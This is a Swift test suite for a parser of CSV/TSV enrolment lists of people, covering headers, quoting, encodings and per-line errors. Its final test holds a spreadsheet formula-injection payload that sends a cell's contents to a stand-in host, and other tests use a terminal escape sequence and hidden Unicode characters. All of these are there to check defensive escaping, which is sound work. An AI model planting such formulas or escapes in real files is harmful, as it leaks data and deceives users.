import Testing

@testable import UAFAdministration
@testable import UAFService

/// Lists of people for enrolment, valid and invalid ones.
struct PeopleListTests {
  private func list(_ text: String) throws(PeopleListProblem) -> PeopleList {
    try PeopleList(parsing: Array(text.utf8))
  }

  private func person(_ name: String, lifetime: Int64? = nil) throws -> PeopleList.Person {
    .init(username: name, lifetime: lifetime, change: try ProfileChange())
  }

  @Test func `the text about an unknown column says that the first line names the columns, and which there are`() {
    #expect(
      PeopleListProblem.unknownColumn("mina").description
        == #"the first line names the columns, and "mina" is none of them: write username, and what is wanted of "#
        + "displayName, mail, department, externalID, groups, lifetime")
  }

  @Test func `a list of people has names and lifetimes, with the columns in either order`() throws {
    let people = try list("username,lifetime\nmina,60\njun,\n").people
    #expect(try people == [person("mina", lifetime: 60), person("jun")])
    #expect(try list("lifetime,username\n60,mina\n").people == [person("mina", lifetime: 60)])
  }

  @Test func `a list of people may have a byte order mark, carriage returns, quotes and no final line end`() throws {
    let text = "\u{FEFF}\"username\"\r\n\"mi,na\"\r\n\"ju\"\"n\""
    #expect(try list(text).people.map(\.username) == ["mi,na", "ju\"n"])
    #expect(try list(text).wrong.isEmpty)
  }

  @Test(arguments: [
    ("", PeopleListProblem.empty), ("\n", .empty), ("mina\n", .unknownColumn("mina")),
    ("lifetime\n5\n", .noUsername), ("username,username\n", .columnTwice("username")),
    ("user\n", .unknownColumn("user")), ("a;b\n", .unknownColumn("a")),
    ("mail,E-Mail,username\n", .columnTwice("E-Mail")),
    ("username,\n", .unknownColumn("")), ("\"username\n", .openQuote),
  ])
  func `refuses a list of people whose first line does not name the columns`(text: String, problem: PeopleListProblem) {
    #expect(throws: problem) { try list(text) }
  }

  @Test(arguments: [
    "username,lifetime\n\"mi,na\",60\n", "username;lifetime\nmi,na;60\n",
    "\u{FEFF}\"username\";\"lifetime\"\r\n\"mi,na\";60\r\n", "Username; Lifetime\nmi,na;60\n",
    "lifetime;username\n60;mi,na\n", "username\tlifetime\nmi,na\t60\n", "아이디\t유효 시간\nmi,na\t60\n",
  ])
  func `the first line shows which character separates fields, and names columns in English or Korean`(text: String)
    throws
  {
    let parsed = try list(text)
    #expect(try parsed.people == [person("mi,na", lifetime: 60)])
    #expect(parsed.wrong == [])
  }

  @Test func `a list says who people are, in columns of any order`() throws {
    let text = "Groups,E-Mail,display name,Department,username,employee_number\n a | b ,m@e.kr, 김미나 ,,mina,7\n"
    let change = try ProfileChange([.mail: "m@e.kr", .displayName: "김미나", .externalID: "7"], groups: ["a", "b"])
    #expect(try list(text).people == [.init(username: "mina", lifetime: nil, change: change)])
  }

  @Test func `a list that the server wrote is read back, with the characters that are special in lists`() throws {
    let texts: [ProfileField: String] = [
      .displayName: "Kim, \"Mina\"", .mail: "m;i@e.kr", .department: "가;나,다", .externalID: "7",
    ]
    let text = PeopleListText.header + PeopleListText.line("mina", texts, groups: ["a,b", "c"])
    let change = try ProfileChange(texts, groups: ["a,b", "c"])
    #expect(try list(text).people == [.init(username: "mina", lifetime: nil, change: change)])
  }

  @Test(arguments: [
    ("mina,x,,", PeopleListProblem.column("mail", .notMail)),
    ("mina,,a\u{202E}b,", .column("displayName", .hidden(character: "U+202E"))),
    ("mina,,,a|\u{200B}", .column("groups", .hidden(character: "U+200B"))),
    ("mina,,,a| |b", .column("groups", .emptyGroup)),
  ])
  func `a field that breaks a rule is named by its line and its column, and the other lines are read`(
    line: String, problem: PeopleListProblem
  ) throws {
    let parsed = try list("username,mail,displayName,groups\nfirst,,,\n\(line)\nlast,,,\n")
    #expect(parsed.wrong == [.init(line: 3, problem: problem)])
    #expect(parsed.people.map(\.username) == ["first", "last"])
    if case .column(let name, _) = problem { #expect(problem.description.hasPrefix(name)) }
  }

  @Test func `an empty field changes nothing, even if there is white space in it`() throws {
    let people = try list("username,mail,displayName,groups\nmina, ,\u{3000},\n").people
    #expect(try people == [person("mina")])
  }

  @Test func `refuses an external ID that an earlier line of the list has`() throws {
    let parsed = try list("username,사번\nmina,7\njun,7\n")
    #expect(parsed.wrong == [.init(line: 3, problem: .externalIDTaken("7", by: "mina"))])
  }

  @Test func `the refusal of a line says 'field' for one field and 'fields' for several`() {
    #expect(PeopleListProblem.fields(found: 1, wanted: 2).description == "there is 1 field instead of 2")
    #expect(PeopleListProblem.fields(found: 3, wanted: 2).description == "there are 3 fields instead of 2")
  }

  @Test func `a list in UTF-16 is refused, and the refusal says that it is UTF-16`() {
    let text = "username\nmina\n".utf16
    for bytes: [UInt8] in [
      [0xFF, 0xFE] + text.flatMap { [UInt8($0), 0] }, [0xFE, 0xFF] + text.flatMap { [0, UInt8($0)] },
    ] { #expect(throws: PeopleListProblem.utf16) { try PeopleList(parsing: bytes) } }
  }

  @Test(arguments: [
    ("", PeopleListProblem.emptyLine), (",5", .emptyUsername), ("mina", .fields(found: 1, wanted: 2)),
    ("mina,5,6", .fields(found: 3, wanted: 2)), ("mi na,5", .invalidUsername("mi na")),
    ("미나,5", .invalidUsername("미나")), (String(repeating: "a", count: 129) + ",5", .longUsername),
    ("first,5", .usernameTwice("first", first: 2)), ("mina,soon", .notANumber("soon")), ("mina,-5", .notANumber("-5")),
    ("mina,5.5", .notANumber("5.5")), ("mina,0", .lifetimeRange(0)), ("mina,604801", .lifetimeRange(604_801)),
    ("mina,99999999999999999999", .notANumber("99999999999999999999")), ("\"mina,5", .openQuote),
    ("\"mina\"x,5", .afterQuote), ("mi\"na,5", .innerQuote), ("mina\t,5", .controlCharacter),
    ("mi\u{0}na,5", .controlCharacter), ("mina\r,5", .controlCharacter),
    (String(repeating: "a", count: 4100), .tooLong),
  ])
  func `a wrong line of a list is named by its number, and the other lines are read`(
    line: String, problem: PeopleListProblem
  ) throws {
    let parsed = try list("username,lifetime\nfirst,1\n\(line)\nlast,2\n")
    #expect(parsed.wrong == [.init(line: 3, problem: problem)])
    #expect(parsed.people.map(\.username) == ["first", "last"])
  }

  @Test func `refuses a list that is not UTF-8, or that has more lines than the limit`() throws {
    #expect(throws: PeopleListProblem.notUTF8) { try PeopleList(parsing: Array("username\n".utf8) + [0xFF]) }
    let many = "username\n" + (0...PeopleList.maximumCount).map { "a\($0)\n" }.joined()
    #expect(throws: PeopleListProblem.tooMany) { try list(many) }
  }

  @Test func `text from a list of people is printed to the terminal only in quotes`() {
    #expect(PeopleListProblem.invalidUsername("\u{1B}[2J").description.hasPrefix("\"\\u{1b}[2J\" is not a username"))
  }

  @Test(arguments: ["mina", "mi,na", "ju\"n", "\"", "", "a,b\"\"c"])
  func `a CSV field is read back exactly as it was written`(field: String) throws {
    for fields in [[field], [field, "x", field]] {
      let line = CSVLine.written(fields)
      #expect(line.hasSuffix("\n"))
      #expect(try CSVLine(parsing: String(line.dropLast())).fields == fields)
    }
  }

  @Test(arguments: [
    #"=WEBSERVICE("http://a.test/?"&B2)"#, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1,2", "=\u{301}1",
    "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}1",
  ]) func `a CSV field that looks like a formula is written so that no spreadsheet computes it`(field: String) throws {
    let line = CSVLine.written(["mina", field])
    #expect(line.utf8.starts(with: "mina,'".utf8) || line.utf8.starts(with: "mina,\"'".utf8))
    #expect(try CSVLine(parsing: String(line.dropLast())).fields == ["mina", "'" + field])
  }
}
